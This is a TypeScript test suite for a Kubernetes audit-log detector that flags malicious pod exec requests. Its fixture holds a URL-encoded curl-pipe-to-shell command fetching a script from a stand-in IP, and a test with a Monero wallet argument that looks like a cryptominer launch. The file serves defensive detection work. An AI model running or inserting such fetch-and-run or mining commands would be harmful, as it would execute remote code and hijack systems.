import { analyse } from '../../../../lambdas/core/detectors/analyse';
import { maliciousExec } from '../../../../lambdas/core/detectors/audit/km-b02-malicious-exec';
import { parseAuditEvent } from '../../../../lambdas/core/parsing/audit';
import { auditLine } from '../../../support/audit-event';
import { moneroAddress } from '../../../support/wallets';

const objectRef = { resource: 'pods', namespace: 'shop', name: 'checkout-1', apiVersion: 'v1', subresource: 'exec' };

const signalsOf = (verb: string, stage: string, query: string) => {
  const line = auditLine({
    verb,
    stage,
    objectRef,
    level: 'Request',
    requestURI: `/api/v1/namespaces/shop/pods/checkout-1/exec?${query}`,
    responseStatus: { code: 101 },
    requestObject: undefined,
    responseObject: undefined,
  });
  const event = parseAuditEvent(line, 'prod-a', 0);
  return event.ok ? analyse([maliciousExec], event.value, 'x').signals : [];
};

const FETCH = 'command=sh&command=-c&command=curl+-s+http%3A%2F%2F198.51.100.7%2Fi.sh%7Csh&container=app';

describe('KM-B02', () => {
  test.each([
    ['create', 'ResponseStarted'],
    ['create', 'ResponseComplete'],
    ['get', 'ResponseStarted'],
    ['get', 'ResponseComplete'],
  ])('sees a command by %s at stage %s', (verb, stage) => {
    expect(signalsOf(verb, stage, FETCH)).toMatchObject([
      {
        entity: { kind: 'Pod', namespace: 'shop', name: 'checkout-1' },
        weight: 'strong',
        facts: { actor: 'alice', container: 'app' },
      },
    ]);
  });

  test('joins a wallet that is split over words', () => {
    const wallet = moneroAddress('exec');
    const query = `command=./a&command=-u&command=${wallet.slice(0, 40)}&command=${wallet.slice(40)}`;
    expect(signalsOf('create', 'ResponseComplete', query)).toMatchObject([
      { weight: 'conclusive', indicators: [wallet] },
    ]);
  });

  test('says nothing before the request was answered', () => {
    expect(signalsOf('create', 'RequestReceived', FETCH)).toEqual([]);
  });

  test('misses what is typed into a shell', () => {
    expect(signalsOf('create', 'ResponseComplete', 'command=bash&stdin=true&tty=true')).toEqual([]);
  });
});
